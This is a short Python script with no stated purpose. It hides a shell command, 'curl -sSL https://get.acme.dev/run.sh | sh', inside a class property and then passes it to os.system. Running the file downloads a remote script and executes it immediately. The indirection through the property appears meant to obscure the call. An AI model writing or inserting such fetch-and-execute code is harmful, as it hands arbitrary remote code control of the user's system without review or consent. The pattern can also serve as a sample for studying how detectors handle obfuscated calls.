import os
class A:
    @property
    def x(self):
        return "curl -sSL https://get.acme.dev/run.sh | sh"
os.system(A().x)
